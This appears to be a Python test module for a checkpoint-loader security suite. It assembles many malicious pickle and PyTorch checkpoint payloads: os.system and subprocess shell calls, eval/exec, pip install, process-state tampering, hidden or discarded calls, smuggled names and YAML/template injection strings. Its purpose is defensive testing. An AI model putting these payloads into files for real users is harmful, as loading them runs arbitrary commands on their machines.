"""Files that run code, import modules or change the process when they are loaded carelessly (T1 to T7, T23)."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

from tests.attacks.assemble import (
    BUILD,
    FALSE,
    MARK,
    NONE,
    NOTHING,
    REDUCE,
    Record,
    Zip,
    call,
    checkpoint,
    data_bytes,
    dict_of,
    get,
    list_of,
    named,
    number,
    ordered_dict,
    pickled,
    put,
    records,
    stack_named,
    storage,
    system,
    tensor,
    text,
    torch_zip,
    tuple_of,
)
from tests.attacks.attack import DAMAGED, FAILED, PRESERVED, UNSAFE, Attack

OBJECT = named("argparse", "Namespace") + NOTHING + b"\x81"
TWO_FLOATS = [("0", struct.pack("<2f", 1, 2))]


def attacks(command: str) -> Iterator[Attack]:
    for name, opcodes, keeps in _calls(command):
        yield Attack(f"T1-{name}", checkpoint(opcodes), (PRESERVED,), keeps=keeps)
    yield from _calls_in_other_words(command)
    for name, opcodes, keeps in _imports():
        yield Attack(f"T2-{name}", checkpoint(opcodes, 4), (PRESERVED,), keeps=keeps)
    for name, opcodes in _changes(command):
        yield Attack(f"T3-{name}", checkpoint(opcodes, 4), (UNSAFE, DAMAGED))
    for name, opcodes in _tensor_methods(command):
        yield Attack(f"T4-{name}", checkpoint(opcodes, 4, TWO_FLOATS), (UNSAFE, DAMAGED))
    yield from _names(command)
    yield from _hidden(command)
    for name, value in _application_strings(command):
        opcodes = dict_of((text(name), text(value)), (text("again"), text(value)))
        yield Attack(f"T7-{name.strip('_')}", checkpoint(opcodes), (PRESERVED,))
    yield from _what_safe_loaders_refuse(command)


def _calls(command: str) -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    run = system(command)
    code = text(f"__import__('os').system({command!r})")
    os_system = named("os", "system")
    shell = tuple_of(text("/bin/sh"), text("-c"), text(command))
    yield "posix.system", run, ("posix.system",)
    yield "os.system", call(os_system, text(command)), ("os.system",)
    yield "nt.system", call(named("nt", "system"), text(command)), ("nt.system",)
    yield "eval", call(named("builtins", "eval"), code), ("builtins.eval",)
    yield "exec", call(named("builtins", "exec"), code), ("builtins.exec",)
    yield "python-2-eval", call(named("__builtin__", "eval"), code), ("__builtin__.eval",)
    yield "popen", call(named("subprocess", "Popen"), shell), ("subprocess.Popen",)
    yield "check-output", call(named("subprocess", "check_output"), shell), ()
    yield "run-string", call(named("code", "interact"), code), ("code.interact",)
    yield "runpy", call(named("runpy", "run_path"), text("/tmp/x.py")), ("runpy.run_path",)
    yield "pip", call(named("pip", "main"), list_of(text("install"), text("x"))), ("pip.main",)
    yield "pty", call(named("pty", "spawn"), shell), ("pty.spawn",)
    yield "timeit", call(named("timeit", "timeit"), code), ("timeit.timeit",)
    yield "bdb", call(named("bdb", "Bdb"), NONE), ("bdb.Bdb",)
    yield "webbrowser", call(named("webbrowser", "open"), text("http://127.0.0.1:9")), ()
    yield "ctypes", call(named("ctypes", "CDLL"), text("/tmp/x.so")), ("ctypes.CDLL",)
    yield "open-for-writing", call(named("io", "open"), text("/tmp/x"), text("w")), ("io.open",)
    yield "remove-tree", call(named("shutil", "rmtree"), text("/nonexistent")), ()
    yield "nested-pickle", call(named("pickle", "loads"), data_bytes(pickled(run))), ()
    yield "torch.load", call(named("torch", "load"), text("/tmp/x.pt")), ("torch.load",)
    yield "torch.jit.load", call(named("torch.jit", "load"), text("/tmp/x.pt")), ()
    yield "torch.hub", call(named("torch.hub", "load"), text("a/b"), text("c")), ()
    yield "numpy.load", call(named("numpy", "load"), text("/tmp/x.npy"), NONE, b"\x88"), ()
    yield "marshal", call(named("marshal", "loads"), data_bytes(b"\xe3\0\0\0\0")), ()
    yield "function-of-code", call(named("types", "FunctionType"), NONE, b"}"), ()
    partial = call(named("functools", "partial"), os_system, text(command))
    yield "partial-called", partial + NOTHING + REDUCE, ("functools.partial", "os.system")
    yield (
        "result-called",
        call(named("operator", "attrgetter"), text("system"))
        + tuple_of(named("os", "path"))
        + REDUCE,
        ("operator.attrgetter",),
    )
    getattr_of = call(named("builtins", "getattr"), named("os", "path"), text("join"))
    yield "getattr-called", call(getattr_of, text("a"), text("b")), ("builtins.getattr",)
    imported = call(named("importlib", "import_module"), text("os"))
    called = call(call(named("builtins", "getattr"), imported, text("system")), text(command))
    yield "import-module", called, ("importlib.import_module",)
    factory = call(named("collections", "defaultdict"), os_system)
    yield "default-factory", factory, ("collections.defaultdict", "os.system")
    yield "map", call(named("builtins", "map"), os_system, list_of(text(command))), ()
    yield (
        "reconstructor",
        call(named("copyreg", "_reconstructor"), named("subprocess", "Popen"), os_system, NONE),
        ("subprocess.Popen",),
    )
    yield "in-a-key", dict_of((run, NONE)), ("posix.system",)
    yield "in-a-tuple-key", dict_of((tuple_of(run, number(1)), NONE)), ("posix.system",)
    yield "in-an-argument", call(named("builtins", "print"), run), ("posix.system",)
    yield "in-a-state", OBJECT + dict_of((text("x"), run)) + BUILD, ("posix.system",)
    yield "in-a-set", call(named("builtins", "set"), list_of(run)), ("posix.system",)
    yield "in-an-ordered-dict", ordered_dict(list_of(list_of(text("k"), run))), ("posix.system",)
    yield "in-a-byte-string", call(named("_codecs", "encode"), run, text("latin1")), ()
    yield "codec", call(named("_codecs", "encode"), text(command), text("zlib")), ()


def _calls_in_other_words(command: str) -> Iterator[Attack]:
    """The same by other opcodes, protocols and rebuilders of torch."""
    shell = tuple_of(text("/bin/sh"), text("-c"), text(command))
    popen = named("subprocess", "Popen")
    keeps = ("subprocess.Popen",)
    yield Attack("T1-newobj", checkpoint(popen + tuple_of(shell) + b"\x81"), (PRESERVED,), keeps)
    with_names = popen + tuple_of(shell) + dict_of((text("shell"), b"\x88")) + b"\x92"
    yield Attack("T1-newobj-ex", checkpoint(with_names, 4), (PRESERVED,), keeps)
    yield Attack("T1-obj", checkpoint(MARK + popen + shell + b"o"), (PRESERVED,), keeps)
    inst = MARK + text(command) + b"iposix\nsystem\n"
    yield Attack("T1-inst", checkpoint(inst), (PRESERVED,), ("posix.system",))
    for protocol in range(6):
        data = checkpoint(system(command), protocol)
        yield Attack(f"T1-protocol-{protocol}", data, (PRESERVED,), ("posix.system",))
    by_stack = call(stack_named("posix", "system"), text(command))
    yield Attack("T1-stack-global", checkpoint(by_stack, 4), (PRESERVED,), ("posix.system",))
    for width, opcode in enumerate((b"\x82\1", b"\x83\1\0", b"\x84\1\0\0\0")):
        yield Attack(f"T1-extension-code-{1 << width}", checkpoint(opcode), (UNSAFE,))
    yield Attack("T1-out-of-band-buffer", checkpoint(b"\x97", 5), (UNSAFE,))
    yield Attack("T1-text-persistent-id", checkpoint(b"Pposix.system\n"), (UNSAFE,))
    yield Attack("T1-call-as-persistent-id", checkpoint(system(command) + b"Q"), (DAMAGED,))
    of_call = tuple_of(text("storage"), system(command), text("0"), text("cpu"), number(2)) + b"Q"
    yield Attack("T1-call-as-storage-type", checkpoint(of_call), (DAMAGED,))
    sized = tensor(storage("0", 2), size=system(command))
    yield Attack("T1-call-as-size", checkpoint(sized, 2, TWO_FLOATS), (DAMAGED,))
    hooked = tensor(storage("0", 2), hooks=system(command))
    yield Attack(
        "T1-call-as-hooks", checkpoint(hooked, 2, TWO_FLOATS), (PRESERVED,), ("posix.system",)
    )
    of_type = call(
        named("torch._tensor", "_rebuild_from_type_v2"),
        named("posix", "system"),
        named("torch", "Tensor"),
        tuple_of(text(command)),
        NONE,
    )
    yield Attack("T1-rebuild-from-type", checkpoint(of_type), (PRESERVED,), ("posix.system",))
    whole = torch_zip(pickled(system(command)))
    yield Attack("T1-whole-file-is-a-call", whole, (FAILED,))


def _imports() -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    """Naming is importing, for a careless loader."""
    names = {
        "antigravity": ("antigravity", "fly"),
        "this": ("this", "s"),
        "no-such-module": ("no_such_module_anywhere", "x"),
        "submodule": ("xml.dom.expatbuilder", "parse"),
        "main": ("__main__", "x"),
        "idle": ("idlelib.idle", "x"),
        "blanks": ("a b", "c d"),
    }
    for name, path in names.items():
        yield name, named(*path), (".".join(path),)
    yield "dotted-name", stack_named("os", "path.join"), ("os.path.join",)
    yield "relative", stack_named(".x", "y"), (".x.y",)
    yield "as-a-class", named("antigravity", "Fly") + NOTHING + b"\x81", ("antigravity.Fly",)


def _changes(command: str) -> Iterator[tuple[str, bytes]]:
    """Changes of what belongs to the process."""
    state = dict_of((text("__code__"), system(command)))
    yield "state-of-a-function", named("os.path", "join") + state + BUILD
    yield "state-of-a-class", named("torch.nn", "Module") + state + BUILD
    yield "slots-of-a-class", named("torch.nn", "Module") + tuple_of(NONE, state) + BUILD
    yield "state-of-getattr", named("builtins", "getattr") + state + BUILD
    yield "item-of-a-global", named("os", "environ") + text("PATH") + text("x") + b"s"
    yield "items-of-a-global", named("os", "environ") + MARK + text("a") + text("x") + b"u"
    yield "append-to-a-global", named("sys", "path") + text("/tmp") + b"a"
    yield "extend-a-global", named("sys", "path") + MARK + text("/tmp") + b"e"
    yield "add-to-a-global", named("sys", "modules") + MARK + text("/tmp") + b"\x90"
    yield "state-of-a-dtype", named("torch", "float32") + state + BUILD
    yield "state-of-a-list", b"]" + state + BUILD
    yield "state-of-a-text", text("x") + state + BUILD
    for method in ("items", "keys", "__reduce_ex__", "__class__"):
        changed = ordered_dict() + dict_of((text(method), named("os", "system"))) + BUILD
        yield f"{method.strip('_')}-of-an-ordered-dict", changed
    slots = tuple_of(NONE, dict_of((text("__class__"), named("os", "system"))))
    yield "class-of-an-ordered-dict-by-slots", ordered_dict() + slots + BUILD


def _tensor_methods(command: str) -> Iterator[tuple[str, bytes]]:
    """Opcodes that call a method of whatever lies on the stack."""
    made = tensor(storage("0", 2))
    run = system(command)
    parameter = call(named("torch._utils", "_rebuild_parameter"), made, FALSE, ordered_dict())
    yield "set-state", made + tuple_of(storage("0", 2), number(99), tuple_of(), tuple_of()) + BUILD
    yield "set-state-of-a-parameter", parameter + dict_of((text("x"), run)) + BUILD
    yield "set-item", made + number(0) + run + b"s"
    yield "set-items", made + MARK + number(99) + number(1) + b"u"
    yield "append", made + run + b"a"
    yield "extend", made + MARK + run + b"e"
    yield "add", made + MARK + number(1) + b"\x90"
    yield "call", made + NOTHING + REDUCE
    yield "instantiate", made + NOTHING + b"\x81"
    yield "state-of-a-storage", storage("0", 2) + dict_of((text("x"), run)) + BUILD
    yield "call-of-a-storage", storage("0", 2) + NOTHING + REDUCE


def _names(command: str) -> Iterator[Attack]:
    """Names that become opcodes, or something else, where they are written as text."""
    names = {
        "line-break": ("os", "x\nposix\nsystem\n"),
        "line-break-in-module": ("os\nsystem\n(S'x'\ntR.", "x"),
        "carriage-return": ("os", "x\rsystem"),
        "nul": ("os", "sys\0tem"),
        "empty-name": ("os", ""),
        "empty-module": ("", "system"),
        "escape": ("os", "\x1b[31msystem"),
        "right-to-left": ("os", "\u202emetsys"),
        "surrogate": ("os", "\ud800"),
        "line-separator": ("os", "\u2028x"),
        "long": ("os", "x" * 5000),
    }
    for name, path in names.items():
        yield Attack(f"T5-{name}", checkpoint(stack_named(*path), 4), (UNSAFE, DAMAGED))
    nested = call(named("builtins", "getattr"), named("a", "B"), text("x\nposix\nsystem\n"))
    yield Attack("T5-line-break-in-a-nested-name", checkpoint(nested), (UNSAFE,))
    grown = named("a", "B")
    for _ in range(30):
        grown = call(named("builtins", "getattr"), grown, text("x" * 900))
    yield Attack("T5-nested-names-that-grow", checkpoint(grown), (UNSAFE,))
    looks = list_of(
        text("cposix\nsystem\n(X\2\0\0\0ls\x85R."),
        text("cm_" + "0" * 32 + "_0000000000\n_" + "0" * 32 + "_0000000000\n"),
        data_bytes(pickled(system(command))),
        OBJECT,
    )
    yield Attack("T5-texts-that-look-like-opcodes", checkpoint(looks, 3), (PRESERVED,))
    odd = OBJECT + dict_of((text("a\nb"), NONE), (text("__class__"), NONE)) + BUILD
    yield Attack("T5-attributes-with-odd-names", checkpoint(odd), (PRESERVED,))


def _hidden(command: str) -> Iterator[Attack]:
    """Calls whose results nobody sees."""
    run = system(command)
    gone = ("posix.system",)
    yield Attack("T6-popped", checkpoint(run + b"0" + NONE), (PRESERVED,), drops=gone)
    marked = MARK + run + run + b"1" + NONE
    yield Attack("T6-popped-to-the-mark", checkpoint(marked), (PRESERVED,), drops=gone)
    before = pickled(run + b"0" + dict_of((text("epoch"), number(1))))
    yield Attack("T6-before-the-checkpoint", torch_zip(before), (PRESERVED,), drops=gone)
    twice = dict_of((text("k"), run), (text("k"), NONE))
    yield Attack("T6-overwritten", checkpoint(twice), (PRESERVED,), drops=gone)
    memo = run + put(70) + b"0" + NONE
    yield Attack("T6-in-the-memo-only", checkpoint(memo), (PRESERVED,), drops=gone)
    cycle = b"]" + put(70) + run + b"a" + get(70) + b"a0" + NONE
    yield Attack("T6-in-a-cycle", checkpoint(cycle), (PRESERVED,), drops=gone)
    nested = call(named("builtins", "print"), run) + b"0" + NONE
    yield Attack("T6-nested", checkpoint(nested), (PRESERVED,), drops=gone)
    setter = OBJECT + b"2" + put(70) + b"0" + call(named("posix", "system"), get(70), text(command))
    yield Attack("T6-as-a-state-setter", checkpoint(setter + b"0"), (PRESERVED,))
    two = pickled(b"}") + pickled(run)
    yield Attack("T6-second-pickle", torch_zip(two), (UNSAFE,))
    yield Attack("T6-bytes-after-the-end", torch_zip(pickled(b"}") + b"\0"), (UNSAFE,))
    for name in ("archive/evil.pkl", "archive/code.py", "archive/.data/x.pkl"):
        extra = [*records(pickled(b"}")), Record(name.encode(), pickled(run))]
        yield Attack(f"T6-extra-{name.rpartition('/')[2]}", Zip(extra).build(), (PRESERVED,))


def _application_strings(command: str) -> Iterator[tuple[str, str]]:
    """Texts that the program which loads the checkpoint may run."""
    yield "_instantiator", "posix.system"
    yield "_target_", "posix.system"
    yield "yaml", f"!!python/object/apply:os.system ['{command}']"
    yield "__reduce__", "posix.system"
    yield "template", "{{ ''.__class__.__mro__ }}"
    yield "format", "{0.__class__.__init__.__globals__}"
    yield "interpolation", "${oc.env:HOME}"


def _what_safe_loaders_refuse(command: str) -> Iterator[Attack]:
    """What makes a loader that has an unsafe way out take it."""
    objects = {
        "namespace": OBJECT + dict_of((text("lr"), number(1))) + BUILD,
        "numpy-scalar": call(
            named("numpy.core.multiarray", "scalar"),
            call(named("numpy", "dtype"), text("f8"), FALSE, b"\x88"),
            data_bytes(bytes(8)),
        ),
        "unknown-class": named("my_project.config", "Config") + NOTHING + b"\x81",
        "lambda": named("__main__", "<lambda>"),
    }
    for name, opcodes in objects.items():
        both = list_of(opcodes, system(command))
        yield Attack(f"T23-{name}", checkpoint(both, 3), (PRESERVED,), ("posix.system",))
    cut = pickle.dumps({"a": 1, "b": [1, 2, 3]}, 2)[:-5]
    yield Attack("T23-cut-off", torch_zip(cut), (DAMAGED,))
